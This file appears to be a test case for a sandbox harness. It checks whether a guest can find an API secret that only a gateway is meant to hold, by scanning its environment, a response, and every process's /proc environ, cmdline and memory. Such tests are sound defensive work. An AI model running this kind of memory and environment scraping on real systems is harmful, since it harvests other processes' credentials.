# /// attack
# guarantee = "network"
# summary = "Looks for a secret in its variables, its memory, every process in sight, and the texts of refusals."
# reference = "proc(5)"
# success = "the guest reads the value"
# stage = ["internet", "secret"]
# observe = ["secret"]
# needs = ["small-internet"]
# policy = { network = { allow = ["api.example.org:443", "api.example.com:443", "api.example.org:80"] } }
# refusal = { default = "proxy only by the gateway" }
# ///

import os

from kit import get, has_secret, refused, succeeded

KEY = os.environ["API_KEY"]
answer = get("api.example.org", "/bytes?count=1", f"Authorization: Bearer {KEY}")
found = has_secret(repr(dict(os.environ)) + repr(answer))
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "mem"):
        try:
            with open(f"/proc/{pid}/{name}", "rb", 0) as file:
                if name != "mem":
                    found |= has_secret(file.read(1 << 20))
                    continue
                with open(f"/proc/{pid}/maps") as maps:
                    places = [line.split()[0].split("-") for line in maps if " rw" in line and "[v" not in line]
                for begin, end in places:
                    file.seek(int(begin, 16))
                    found |= has_secret(file.read(min(int(end, 16) - int(begin, 16), 1 << 22)))
        except (OSError, OverflowError):
            continue
if found:
    succeeded()
refused("not anywhere")
